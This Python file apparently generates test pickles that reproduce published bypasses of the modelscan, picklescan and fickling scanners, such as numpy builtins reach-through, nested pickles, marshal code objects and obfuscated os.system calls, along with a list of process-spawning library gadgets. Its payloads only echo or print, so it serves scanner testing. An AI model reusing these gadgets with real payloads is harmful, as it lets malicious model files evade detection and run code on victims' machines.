"""Ways past scanners of pickles that were published, each as a pickle that would do no more than print, and where it is told.

The pickles are made here, opcode by opcode, of what the reports say; nothing loads them.
"""
import marshal

from hostile import MARK, call, dictionary, glob, items, name, number, pickled, text

NONE, EMPTY_TUPLE, POP = b"N", b")", b"0"
SHELL = text("echo suture")
CODE = text("print('suture')")


def build(value, attributes):
    """BUILD of what is no instance: with the state (None, attributes) Python sets the attributes."""
    return value + items(NONE, dictionary(attributes)) + b"b"


def string(characters):
    """A text that stands nowhere in the file: "".join of its characters."""
    parts = b"]" + MARK + b"".join(map(text, characters)) + b"e"
    return call(call(glob("builtins", "getattr"), glob("builtins", "str"), text("join")), text(""), parts)


def attribute(value, title):
    return call(glob("builtins", "getattr"), value, title)


def all():
    """Each by what it is called: by the report, or by what it reaches."""
    numpy_builtins = glob("numpy", "__builtins__")
    partial = call(glob("functools", "partial"), glob("os", "system"), SHELL)
    finder = call(glob("importlib.util", "find_spec"), text("os"))
    made = {
        # https://github.com/protectai/modelscan/issues/85: attributes set by BUILD, then read by STACK_GLOBAL.
        "modelscan 85 names set by BUILD": build(glob("numpy", "prod"), [(text("a"), text("os"))])
        + build(glob("numpy", "prod"), [(text("b"), text("system"))]) + POP + POP
        + call(glob("numpy", "prod.a") + glob("numpy", "prod.b") + b"\x93", SHELL),
        # https://github.com/protectai/modelscan/issues/89
        "modelscan 89 builtins of numpy": call(call(glob("builtins", "dict.get"), numpy_builtins, text("exec")), CODE),
        "modelscan 89 sys.modules of numpy": build(glob("numpy", "prod"), []) + POP
        + glob("numpy", "prod") + items(NONE, glob("numpy", "core._internal.sys.modules")) + b"b" + POP
        + call(glob("numpy", "prod.os.system"), SHELL),
        # https://github.com/protectai/modelscan/issues/267
        "modelscan 267 pickle in a pickle": call(glob("pickle", "loads"), b"C\x0e" + b"cos\nsystem\n0N."),
        # https://github.com/protectai/modelscan/issues/330
        "modelscan 330 shape of numpy.size": call(
            call(build(glob("numpy", "size"), [(text("shape"), numpy_builtins)]), glob("numpy", "size"), text("eval")), CODE),
        # https://github.com/protectai/modelscan/issues/331: the name of the module is joined of its letters.
        "modelscan 331 a joined name": call(
            attribute(call(glob("importlib", "import_module"), string("os")), string("system")), SHELL),
        # https://github.com/protectai/modelscan/pull/346
        "modelscan 346 mailcap": call(
            glob("mailcap", "findmatch"), dictionary([(text("text/plain"), b"]" + dictionary([(text("test"), text("true"))]) + b"a")]),
            text("text/plain")),
        # https://github.com/mmaitre314/picklescan/pull/74
        "picklescan 74 importlib": attribute(call(glob("importlib", "import_module"), text("os")), text("system")),
        "picklescan 74 marshal": call(glob("marshal", "loads"), b"C" + bytes([len(marshal.dumps(0))]) + marshal.dumps(0)),
        # https://github.com/mmaitre314/picklescan/issues/66
        "picklescan 66 find_spec": call(glob("importlib.util", "module_from_spec"), finder),
        "picklescan 66 attrgetter": call(call(glob("operator", "attrgetter"), text("system")), glob("os", "path.os")),
        # https://github.com/trailofbits/fickling/pull/210, and the advisories that it names
        "fickling 210 methodcaller": call(call(glob("operator", "methodcaller"), text("system"), SHELL), glob("os", "path.os")),
        "fickling 210 partial": call(glob("functools", "reduce"), partial, b"]"),
        "fickling 210 partial called": call(partial),
        "fickling 210 f2py": call(glob("numpy.f2py.crackfortran", "_eval_length"), CODE, dictionary([])),
        "fickling 210 write_file": call(glob("distutils.file_util", "write_file"), text("/dev/null"), b"]"),
        # https://github.com/trailofbits/fickling/pull/186
        "fickling 186 a function of code": call(
            call(glob("types", "FunctionType"), call(glob("marshal", "loads"), b"C\x01N"), dictionary([]))),
        # https://github.com/mmaitre314/picklescan/issues/49
        "picklescan 49 lib2to3": call(glob("lib2to3.pgen2.grammar", "Grammar.loads"), b"C\x01N"),
        # https://arxiv.org/html/2607.17503: nothing but a known name, reached by STACK_GLOBAL.
        "ShadowPickle": call(name("collections", "OrderedDict")),
        # https://www.reversinglabs.com/blog/rl-identifies-malware-ml-model-hosted-on-hugging-face: harm first, then a fault.
        "nullifAI a broken end": call(glob("os", "system"), SHELL) + b"X\xff\xff\xff\x7f",
    }
    # Functions of the libraries that start processes, import or unpickle, and stood in no list of names when they were told.
    for module, function in [
        ("uuid", "_get_command_stdout"), ("multiprocessing.util", "spawnv_passfds"), ("_osx_support", "_read_output"),
        ("torch.distributed.nn.jit.instantiator", "_do_instantiate_remote_module_template"),
        ("transformers.dynamic_module_utils", "get_class_in_module"), ("zipimport", "zipimporter"), ("pydoc", "pipepager"),
        ("test.support.script_helper", "spawn_python"), ("torch.storage", "_load_from_bytes"), ("xmlrpc.client", "ServerProxy"),
        ("pip", "main"), ("bdb", "Bdb.run"), ("asyncio.unix_events", "_UnixSubprocessTransport._start"), ("ensurepip", "_run_pip"),
        ("timeit", "timeit"), ("torch.serialization.os", "system"), ("collections", "_sys.modules.get"),
    ]:
        made[f"{module}.{function}"] = call(glob(module, function), SHELL)
    return {title: pickled(value) for title, value in made.items()}
